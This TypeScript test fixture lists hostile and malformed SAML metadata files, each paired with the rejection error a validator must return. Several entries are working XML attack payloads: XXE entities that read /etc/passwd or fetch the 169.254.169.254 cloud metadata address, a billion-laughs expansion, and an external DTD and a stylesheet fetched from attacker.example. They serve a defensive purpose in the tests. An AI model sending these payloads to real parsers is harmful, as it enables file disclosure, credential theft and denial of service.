import type { IntakeErrorName } from '../../../lambdas/intake/errors';
import { certificate, daysFromNow, identityCenterXml, keycloakXml } from './fixtures';

/** A hostile or broken upload and the one error name Intake must answer with. */
export interface HostileFile {
  name: string;
  body: Buffer;
  /** The object's size, when larger than the body: the tests store the body padded with spaces after the document to this size. */
  contentLength?: number;
  error: IntakeErrorName;
  /** A fragment the message must contain, so a person knows what to fix. */
  message?: RegExp;
}

const MD = 'urn:oasis:names:tc:SAML:2.0:metadata';
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const utf8 = (text: string) => Buffer.from(text, 'utf8');
/** Comments that carry a small document over IAM's 1,000-character minimum, so the check under test is reached. */
const padding = `<!-- ${'padding '.repeat(130)}-->`;
const afterDeclaration = (xml: string, insert: string) => xml.replace('standalone="no"?>', `standalone="no"?>${insert}`);
const noDeclaration = (xml: string) => xml.replace(/^<\?xml[^>]*\?>/, '');

function utf16(text: string, endian: 'le' | 'be', bom: boolean): Buffer {
  const le = Buffer.from(text, 'utf16le');
  const body = endian === 'le' ? le : Buffer.from(le).swap16();
  return bom ? Buffer.concat([Buffer.from(endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), body]) : body;
}

const signingKey = (base64: string) =>
  `<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="${DS}"><ds:X509Data><ds:X509Certificate>${base64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`;

function idpEntity(entityId: string, certificateName: string): string {
  return (
    `<md:EntityDescriptor entityID="${entityId}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">` +
    `${signingKey(certificate(certificateName).base64)}<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${entityId}/sso"/>` +
    '</md:IDPSSODescriptor></md:EntityDescriptor>'
  );
}

export function hostileFiles(): HostileFile[] {
  const valid = identityCenterXml();
  const files: HostileFile[] = [
    {
      name: 'XXE: an external entity reading /etc/passwd into the entityID',
      body: utf8(
        afterDeclaration(valid, '<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
          /entityID="[^"]*"/,
          'entityID="&xxe;"',
        ),
      ),
      error: 'Metadata.UnsafeXml',
      message: /DOCTYPE/,
    },
    {
      name: 'XXE through a parameter entity and an external DTD on a web server',
      body: utf8(afterDeclaration(valid, '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://169.254.169.254/latest/meta-data/"> %remote;]>')),
      error: 'Metadata.UnsafeXml',
    },
    {
      name: 'billion laughs: nested entities that expand to gigabytes',
      body: utf8(
        afterDeclaration(
          valid,
          '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
            Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
            ']>',
        ).replace('<md:NameIDFormat>', '<md:NameIDFormat>&lol9;'),
      ),
      error: 'Metadata.UnsafeXml',
    },
    {
      name: 'a harmless-looking DOCTYPE without any entity',
      body: utf8(afterDeclaration(valid, '<!DOCTYPE md:EntityDescriptor>')),
      error: 'Metadata.UnsafeXml',
    },
    {
      name: 'a DOCTYPE naming an external DTD',
      body: utf8(afterDeclaration(valid, '<!DOCTYPE md:EntityDescriptor SYSTEM "https://attacker.example/saml.dtd">')),
      error: 'Metadata.UnsafeXml',
    },
    {
      name: 'a DOCTYPE whose internal subset never closes',
      body: utf8(afterDeclaration(valid, '<!DOCTYPE md:EntityDescriptor [<!ENTITY a "b">')),
      error: 'Metadata.UnsafeXml',
    },
    {
      name: 'an xml-stylesheet processing instruction pointing at a remote stylesheet',
      body: utf8(afterDeclaration(valid, '<?xml-stylesheet type="text/xsl" href="https://attacker.example/steal.xsl"?>')),
      error: 'Metadata.UnsafeXml',
      message: /processing instruction/,
    },
    {
      name: 'an XInclude of a local file inside the IdP role',
      body: utf8(
        valid.replace(
          '<md:NameIDFormat>',
          '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><md:NameIDFormat>',
        ),
      ),
      error: 'Metadata.UnsafeXml',
      message: /XInclude/,
    },
    {
      name: 'a second XML declaration disguised as a processing instruction after the root',
      body: utf8(`${valid}<?xml version="1.0"?>`),
      error: 'Metadata.Malformed',
    },
    {
      name: 'an XML declaration that is not at the very start',
      body: utf8(`\n  ${valid}`),
      error: 'Metadata.Malformed',
    },
    {
      name: 'service provider metadata (the Amazon Connect side, not the IdP)',
      body: utf8(
        `<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor xmlns:md="${MD}" entityID="urn:amazon:webservices">${padding}` +
          '<md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol" WantAssertionsSigned="true">' +
          '<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://signin.aws.amazon.com/saml" index="1"/>' +
          '</md:SPSSODescriptor></md:EntityDescriptor>',
      ),
      error: 'Metadata.NotIdentityProvider',
      message: /service provider/,
    },
    {
      name: 'an IDPSSODescriptor for SAML 1.1 only',
      body: utf8(
        valid.replace(
          'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"',
          'protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol"',
        ),
      ),
      error: 'Metadata.NotIdentityProvider',
      message: /SAML:1\.1:protocol/,
    },
    {
      name: 'no KeyDescriptor at all',
      body: utf8(valid.replace(/<md:KeyDescriptor[\s\S]*<\/md:KeyDescriptor>\s*/, padding)),
      error: 'Metadata.NoSigningCertificate',
    },
    {
      name: 'only an encryption certificate',
      body: utf8(valid.replace('use="signing"', 'use="encryption"')),
      error: 'Metadata.NoSigningCertificate',
      message: /encryption-only/,
    },
    {
      name: 'a signing certificate that expired yesterday',
      body: utf8(identityCenterXml({ certificates: [certificate('expired', -1)] })),
      error: 'Metadata.CertificateExpired',
    },
    {
      name: 'two signing certificates, both expired',
      body: utf8(identityCenterXml({ certificates: [certificate('expired', -1), certificate('long-expired', -300)] })),
      error: 'Metadata.CertificateExpired',
    },
    {
      name: 'garbage instead of base64 in X509Certificate',
      body: utf8(valid.replace(/<ds:X509Certificate>[^<]*/, '<ds:X509Certificate>this is not base64 at all!!')),
      error: 'Metadata.BadCertificate',
      message: /not base64/,
    },
    {
      name: 'valid base64 that is not a certificate',
      body: utf8(
        valid.replace(/<ds:X509Certificate>[^<]*/, `<ds:X509Certificate>${Buffer.from('a PEM file pasted as text? '.repeat(20)).toString('base64')}`),
      ),
      error: 'Metadata.BadCertificate',
      message: /not an X\.509 certificate/,
    },
    {
      name: 'an element smuggled inside X509Certificate',
      body: utf8(valid.replace('<ds:X509Certificate>', '<ds:X509Certificate><evil/>')),
      error: 'Metadata.BadCertificate',
    },
    {
      name: 'a file truncated in the middle of the upload',
      body: utf8(valid).subarray(0, Math.floor(valid.length * 0.7)),
      error: 'Metadata.Malformed',
      message: /line \d+, column \d+/,
    },
    {
      name: 'mismatched closing tag',
      body: utf8(valid.replace('</md:IDPSSODescriptor>', '</md:SPSSODescriptor>')),
      error: 'Metadata.Malformed',
    },
    {
      name: 'text after the root element',
      body: utf8(`${valid}<md:EntityDescriptor/>`),
      error: 'Metadata.Malformed',
    },
    {
      name: 'an undeclared entity reference without a DOCTYPE',
      body: utf8(valid.replace('<md:NameIDFormat>', '<md:NameIDFormat>&nbsp;')),
      error: 'Metadata.Malformed',
    },
    {
      name: 'a NUL byte',
      body: utf8(valid.replace('<md:NameIDFormat>', '<md:NameIDFormat>\u0000')),
      error: 'Metadata.Malformed',
    },
    {
      name: 'an undeclared namespace prefix',
      body: utf8(valid.replace('<md:NameIDFormat>', '<mdui:Logo>x</mdui:Logo><md:NameIDFormat>')),
      error: 'Metadata.Malformed',
      message: /undeclared namespace prefix "mdui"/,
    },
    { name: 'an empty file (0 bytes)', body: Buffer.alloc(0), error: 'Metadata.TooSmall' },
    { name: "a stub under IAM's 1,000 characters", body: utf8(`<md:EntityDescriptor xmlns:md="${MD}" entityID="x"/>`), error: 'Metadata.TooSmall' },
    {
      name: '11 MB (judged by its size, never read)',
      body: utf8(valid),
      contentLength: 11_000_000,
      error: 'Metadata.TooLarge',
    },
    { name: 'UTF-16 little-endian with a byte order mark', body: utf16(valid, 'le', true), error: 'Metadata.Encoding', message: /UTF-16/ },
    { name: 'UTF-16 big-endian with a byte order mark', body: utf16(valid, 'be', true), error: 'Metadata.Encoding', message: /UTF-16/ },
    { name: 'UTF-16 without a byte order mark', body: utf16(noDeclaration(valid), 'le', false), error: 'Metadata.Encoding', message: /UTF-16/ },
    {
      name: 'a UTF-8 file that declares encoding="UTF-16"',
      body: utf8(valid.replace('encoding="UTF-8"', 'encoding="UTF-16"')),
      error: 'Metadata.Encoding',
    },
    {
      name: 'Latin-1 bytes that are not UTF-8',
      body: Buffer.concat([utf8(valid.slice(0, 400)), Buffer.from([0x45, 0x78, 0x65, 0x6d, 0x70, 0x6c, 0xe9]), utf8(valid.slice(400))]),
      error: 'Metadata.Encoding',
      message: /offset 406 \(E9/,
    },
    {
      name: 'an HTML page (a login page saved instead of the metadata)',
      body: utf8(`<html><head><title>Sign in</title></head><body>${padding}<p>Please sign in</p></body></html>`),
      error: 'Metadata.NotSamlMetadata',
      message: /<html>/,
    },
    {
      name: 'an EntityDescriptor in the wrong namespace',
      body: utf8(valid.replace(`xmlns:md="${MD}"`, 'xmlns:md="urn:oasis:names:tc:SAML:1.0:metadata"')),
      error: 'Metadata.NotSamlMetadata',
    },
    {
      name: 'validUntil in the past',
      body: utf8(identityCenterXml({ validUntil: daysFromNow(-1).toISOString() })),
      error: 'Metadata.Expired',
    },
    {
      name: 'validUntil in the past on the enclosing EntitiesDescriptor',
      body: utf8(keycloakXml().replace('Name="urn:keycloak"', `Name="urn:keycloak" validUntil="${daysFromNow(-10).toISOString()}"`)),
      error: 'Metadata.Expired',
    },
    {
      name: 'a validUntil that is not a date',
      body: utf8(identityCenterXml({ validUntil: 'next Tuesday' })),
      error: 'Metadata.Malformed',
      message: /xs:dateTime/,
    },
    {
      name: 'no entityID',
      body: utf8(valid.replace(/ entityID="[^"]*"/, '')),
      error: 'Metadata.InvalidEntityId',
    },
    {
      name: 'an entityID longer than SAML allows',
      body: utf8(valid.replace(/entityID="[^"]*"/, `entityID="https://idp.example.com/${'x'.repeat(1100)}"`)),
      error: 'Metadata.InvalidEntityId',
      message: /1,?024/,
    },
    {
      name: 'no SingleSignOnService',
      body: utf8(valid.replace(/<md:SingleSignOnService[^>]*\/>/g, '')),
      error: 'Metadata.NoSingleSignOnService',
    },
    {
      name: 'two identity providers in one EntitiesDescriptor',
      body: utf8(
        `<md:EntitiesDescriptor xmlns:md="${MD}">${idpEntity('https://idp-one.example.com', 'one')}${idpEntity('https://idp-two.example.com', 'two')}</md:EntitiesDescriptor>`,
      ),
      error: 'Metadata.MultipleIdentityProviders',
      message: /idp-one.*idp-two/,
    },
    {
      name: 'more signing certificates than the execution document can carry',
      body: utf8(
        valid.replace(
          '<md:SingleLogoutService',
          `${Array.from({ length: 21 }, (_, i) => signingKey(certificate(`many-${i}`).base64)).join('')}<md:SingleLogoutService`,
        ),
      ),
      error: 'Metadata.TooManyCertificates',
    },
  ];
  return files;
}
